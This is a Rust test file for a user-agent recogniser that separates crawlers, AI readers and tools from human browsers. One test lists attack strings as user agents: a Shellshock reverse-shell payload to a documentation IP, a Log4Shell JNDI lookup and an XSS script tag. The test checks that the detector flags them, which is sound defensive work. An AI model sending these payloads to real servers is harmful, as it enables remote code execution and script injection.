mod names;

use std::collections::HashSet;

use super::tables::lines;
use super::*;

const CRAWLERS: &str = include_str!("../../../../tests/corpus/agents/crawlers.txt");
const AI_READERS: &str = include_str!("../../../../tests/corpus/agents/ai_readers.txt");
const UNSEEN_CRAWLERS: &str = include_str!("../../../../tests/corpus/agents/unseen_crawlers.txt");
const UNSEEN_BROWSERS: &str = include_str!("../../../../tests/corpus/agents/unseen_browsers.txt");
const BROWSERS: &str = include_str!("../../../../tests/corpus/agents/browsers.txt");

fn name(agent: &str) -> Option<&'static str> {
    recognise(Some(agent.as_bytes())).map(|bot| bot.name)
}

#[test]
fn of_the_crawlers_in_the_corpus_98_percent_are_recognised() {
    let all: Vec<_> = CRAWLERS.lines().collect();
    let missed: Vec<_> = all.iter().filter(|a| name(a).is_none()).collect();
    assert!(all.len() > 1_500);
    assert!(
        missed.len() * 50 <= all.len(),
        "{} of {}: {missed:#?}",
        missed.len(),
        all.len()
    );
}

#[test]
fn of_the_browsers_in_the_corpus_none_is_taken_for_a_bot() {
    let all: Vec<_> = BROWSERS.lines().collect();
    let taken: Vec<_> = all.iter().filter_map(|a| name(a).map(|n| (n, a))).collect();
    assert!(all.len() > 2_000);
    assert!(taken.is_empty(), "{taken:#?}");
}

#[test]
fn of_crawlers_that_no_rule_was_written_by_98_percent_are_recognised() {
    let all: Vec<_> = UNSEEN_CRAWLERS.lines().collect();
    let missed: Vec<_> = all.iter().filter(|a| name(a).is_none()).collect();
    assert!(all.len() > 500);
    assert!(
        missed.len() * 50 <= all.len(),
        "{} of {}: {missed:#?}",
        missed.len(),
        all.len()
    );
}

#[test]
fn of_browsers_that_no_rule_was_written_by_one_in_a_thousand_is_taken_for_a_bot() {
    let all: Vec<_> = UNSEEN_BROWSERS.lines().collect();
    let taken: Vec<_> = all.iter().filter_map(|a| name(a).map(|n| (n, a))).collect();
    assert!(all.len() > 2_000);
    assert!(
        taken.len() * 1_000 <= all.len(),
        "{} of {}: {taken:#?}",
        taken.len(),
        all.len()
    );
}

#[test]
fn every_published_ai_reader_is_recognised_and_has_a_kind_of_ai_readers() {
    let is_ai = |kind| matches!(kind, BotKind::AiIndex | BotKind::AiUser | BotKind::AiTraining);
    let odd: Vec<_> = AI_READERS
        .lines()
        .filter(|agent| !recognise(Some(agent.as_bytes())).is_some_and(|bot| is_ai(bot.kind)))
        .collect();
    assert!(AI_READERS.lines().count() > 70);
    assert!(odd.is_empty(), "{odd:#?}");
}

#[test]
fn a_bot_has_the_kind_of_its_line() {
    for (agent, kind, line) in [
        ("Googlebot/2.1", BotKind::Search, Some("known.txt")),
        (
            "Mozilla/5.0 (compatible; OAI-SearchBot/1.0)",
            BotKind::AiIndex,
            Some("known.txt"),
        ),
        (
            "Mozilla/5.0 (compatible; ChatGPT-User/1.0)",
            BotKind::AiUser,
            Some("known.txt"),
        ),
        (
            "Mozilla/5.0 (compatible; GPTBot/1.2)",
            BotKind::AiTraining,
            Some("known.txt"),
        ),
        ("facebookexternalhit/1.1", BotKind::Preview, Some("known.txt")),
        ("kube-probe/1.29", BotKind::Monitor, Some("known.txt")),
        ("Feedly/1.0", BotKind::Feed, Some("known.txt")),
        ("curl/8.5.0", BotKind::Tool, Some("known.txt")),
        ("FooMonitor/1.0", BotKind::Monitor, Some("words.txt")),
        ("Foobot/1.0", BotKind::Other, Some("words.txt")),
        ("unheard-of/1.0", BotKind::Tool, None),
    ] {
        let bot = recognise(Some(agent.as_bytes())).unwrap();
        assert_eq!((bot.kind, bot.line.map(|l| l.table)), (kind, line), "{agent}");
        assert!(bot.why.ends_with('.'));
    }
}

#[test]
fn every_known_bot_has_a_kind_a_source_and_a_date() {
    for line in lines(include_str!("../known.txt")) {
        let parts: Vec<_> = line.split(" | ").collect();
        let [_, kind, source] = parts[..] else {
            panic!("{line}")
        };
        assert!(BotKind::of(kind).is_some(), "{line}");
        let (list, date) = source.rsplit_once(", ").unwrap();
        let is_date = |t: &str| t.len() == 10 && t.bytes().all(|b| b.is_ascii_digit() || b == b'-');
        assert!(
            !list.is_empty() && (is_date(date) || date == "before 2010"),
            "{line}"
        );
    }
    for line in lines(include_str!("../words.txt")) {
        if let Some((_, kind)) = line.split_once(" | ") {
            assert!(BotKind::of(kind).is_some(), "{line}");
        }
    }
}

#[test]
fn a_version_that_is_decades_away_is_nobodys() {
    let chrome = |version: &str| {
        name(&format!(
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36"
        ))
    };
    assert_eq!(chrome("9999.0.0.0"), Some(OTHER));
    assert_eq!(chrome("99999999999999999999.0"), Some(OTHER));
    assert_eq!(chrome("300.0.0.0"), None);
    assert_eq!(
        name("Mozilla/5.0 (Windows NT 10.0; rv:9999.0) Gecko/20100101 Firefox/9999.0"),
        Some(OTHER)
    );
    // Qt's browser engine, by the version of WebKit.
    let qt = "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/604.1.38 (KHTML, like Gecko) QtWebEngine/5.10.1 Firefox/604.1.38";
    assert_eq!(name(qt), None);
}

#[test]
fn two_browsers_in_one_user_agent_are_still_a_persons() {
    let agent = "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/42.0.2311.135 \
                 Safari/537.36 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)";
    assert_eq!(name(agent), None);
}

#[test]
fn the_well_known_come_with_their_names() {
    for (agent, expected) in [
        (
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Googlebot",
        ),
        ("Googlebot-Image/1.0", "Googlebot-Image"),
        (
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) \
             Chrome/129.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Googlebot",
        ),
        (
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
            "Bingbot",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
            "GPTBot",
        ),
        (
            "Mozilla/5.0 AppleWebKit/537.36 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
            "ClaudeBot",
        ),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "facebookexternalhit",
        ),
        ("curl/8.5.0", "curl"),
        ("Wget/1.21.4", "Wget"),
        ("python-requests/2.32.3", "python-requests"),
        ("Go-http-client/1.1", "Go-http-client"),
        ("okhttp/4.12.0", "okhttp"),
        ("Java/17.0.2", "Java"),
        ("libwww-perl/6.72", "libwww-perl"),
        ("axios/1.7.2", "axios"),
        (
            "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
            "node-fetch",
        ),
        ("kube-probe/1.29", "kube-probe"),
        ("GoogleHC/1.0", "GoogleHC"),
        ("ELB-HealthChecker/2.0", "ELB-HealthChecker"),
        ("Blackbox Exporter/0.25.0", "Blackbox Exporter"),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/129.0.0.0 Safari/537.36",
            "Headless Chrome",
        ),
        (
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
            "PhantomJS",
        ),
        ("undici", "undici"),
        ("node", "node"),
    ] {
        assert_eq!(name(agent), Some(expected), "{agent}");
    }
}

#[test]
fn what_no_line_names_is_told_by_words_addresses_and_missing_marks() {
    for agent in [
        "FantasticCrawler/0.1",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1.0 Safari/537.36 my-bot",
        "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (+https://example.com/why)",
        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/120.0 (write to me@research.example.org)",
        "Mozilla/5.0 (compatible; Nobody/1.0)",
        "totally-unheard-of",
        "4711",
        "x",
    ] {
        assert_eq!(name(agent), Some(OTHER), "{agent}");
    }
    assert_eq!(recognise(None), Some(&NO_AGENT));
    assert_eq!(recognise(Some(b"  ")), Some(&NO_AGENT));
}

#[test]
fn attacks_and_shells_are_no_persons() {
    for agent in [
        "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.7/2311 0<&1 2>&1",
        "${jndi:ldap://203.0.113.7/a}",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-NZ) WindowsPowerShell/5.1.14393.693",
        "Z\"><script src=https://a.test/aq></script>",
        "Google",
        "Mozilla/5.0",
    ] {
        assert!(name(agent).is_some(), "{agent}");
    }
}

#[test]
fn an_ai_reader_without_an_address_is_told_by_its_compatible() {
    for agent in ["NewestReader/1.0", "Some-Agent/2.1"] {
        let agent = format!("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {agent})");
        assert_eq!(name(&agent), Some(OTHER), "{agent}");
    }
}

#[test]
fn a_name_behind_a_semicolon_is_no_computers_browser() {
    let windows = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36";
    let phone = "Mozilla/5.0 (Linux; Android 14; SM-A155F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0 Mobile Safari/537.36";
    assert_eq!(name(&format!("{windows}; Newest Reader/1.0")), Some(OTHER));
    for person in [
        windows.to_owned(),
        format!("{windows} Vivaldi/7.1"),
        format!("{windows}; campus"),
        format!("{windows};; Windows NT 10.0"),
        // The app's name.
        format!("{phone}; MyPlans/6.12"),
        // One agent within another.
        format!("Mozilla/5.0 (X11; {windows}; Other/1.0) Gecko/20100101 Firefox/140.0"),
    ] {
        assert_eq!(name(&person), None, "{person}");
    }
}

#[test]
fn a_link_preview_of_messages_is_known_by_its_end() {
    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) \
                 Version/16.5 Safari/605.1.15 (MobileSMS/1.0)";
    assert_eq!(name(agent), Some("iMessage preview"));
}

#[test]
fn a_word_inside_the_name_of_a_phone_or_an_app_means_nothing() {
    for agent in [
        "Mozilla/5.0 (Linux; Android 7.0; M bot 51 Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/56.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 9; CUBOT_NOVA) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 4.4; es-es; CUBOT GT99 Build/KOT49H) AppleWebKit/534.30 Version/4.0 Mobile Safari/534.30",
        "Mozilla/5.0 (Linux; Android 10; Spider 4) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 14; SM-A155F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0 Mobile Safari/537.36 CamScanner/6.70",
        "Mozilla/5.0 (Linux; Android 14; SM-A155F; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBCR/OrangeBotswana]",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 BOTIM/3.4 TurboTax/7 iRobotHome/7.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1 (Ecosia ios@9.0.1)",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/470.0]",
        "Mozilla/5.0 (Linux; x86_64) Ladybird/1.0",
    ] {
        assert_eq!(name(agent), None, "{agent}");
    }
}

#[test]
fn a_crawler_that_poses_as_a_phone_is_told_by_its_address_or_its_compatible() {
    let phone = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36";
    assert_eq!(name(phone), None);
    for rest in [
        "(compatible; Foobot/1.0)",
        "(compatible; NewestReader/1.0)",
        "(compatible; Foo/1.0; +https://foo.example)",
        "foo@foo.example",
    ] {
        assert_eq!(name(&format!("{phone} {rest}")), Some(OTHER), "{rest}");
    }
}

#[test]
fn no_line_of_the_tables_is_there_twice_or_hides_behind_another() {
    let mut seen = HashSet::new();
    let texts: Vec<String> = lines(include_str!("../known.txt"))
        .map(|l| l.split_once(" | ").map_or(l, |(t, _)| t))
        .map(|t| t.split_once(" = ").map_or(t, |(t, _)| t).to_ascii_lowercase())
        .collect();
    for text in &texts {
        assert!(seen.insert(text.clone()), "{text} is there twice");
    }
    let words = lines(include_str!("../words.txt"))
        .map(|l| l.split(" | ").next().unwrap()[1..].trim_end_matches('*'));
    let anywhere: Vec<&str> = texts
        .iter()
        .map(String::as_str)
        .filter(|t| !t.starts_with(['^', '>']))
        .chain(words)
        .collect();
    for text in texts.iter().filter_map(|t| t.strip_prefix(['^', '>'])) {
        // Where the place is required and missed, the search goes on behind its first byte.
        let hidden = anywhere.iter().find(|t| text.starts_with(**t));
        assert_eq!(hidden, None, "{text} adds nothing, and hides it elsewhere");
    }
    for line in lines(include_str!("../words.txt")) {
        assert!(line.starts_with(['+', '&', '!', '-']) && line.len() > 2, "{line}");
        assert_eq!(line, line.to_ascii_lowercase(), "{line}");
    }
}

proptest::proptest! {
    #[test]
    fn no_bytes_make_it_panic(agent in proptest::collection::vec(proptest::num::u8::ANY, 0..300)) {
        let _ = recognise(Some(&agent));
    }
}
